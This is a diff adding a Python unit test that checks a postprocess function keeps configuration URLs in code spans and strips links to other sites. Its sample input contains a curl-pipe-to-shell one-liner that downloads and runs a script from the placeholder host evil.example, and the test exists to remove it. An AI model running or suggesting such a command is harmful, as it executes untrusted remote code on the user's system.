@@ -130,3 +130,16 @@ def test_prompt_numbers_pages_without_url_like_their_citations() -> None:
     assert "[1] Page A › Setup\nalpha" in context and "[1] Page A › Usage\nalpha 2" in context
     assert "[2] Page B\nbeta" in context and "[3] Web page\nweb" in context
     assert "http" not in context, "the model is told never to write links; it is shown none"
+
+
+def test_urls_in_code_are_configuration_and_are_kept() -> None:
+    """`uri="http://localhost:19530"` is what the user must type, not a link: platforms never make code clickable."""
+    raw = (
+        'Connect with `MilvusClient(uri="http://localhost:19530")` [1], or see http://evil.example/x.\n\n'
+        "```yaml\nendpoint: http://minio:9000\n```\n\n"
+        "`curl -sL https://evil.example/install.sh | sh`"
+    )
+    text, _ = postprocess(raw, SOURCES)
+    assert '`MilvusClient(uri="http://localhost:19530")`' in text
+    assert "endpoint: http://minio:9000" in text
+    assert "evil.example" not in text, "a link to elsewhere goes, in prose or in code"
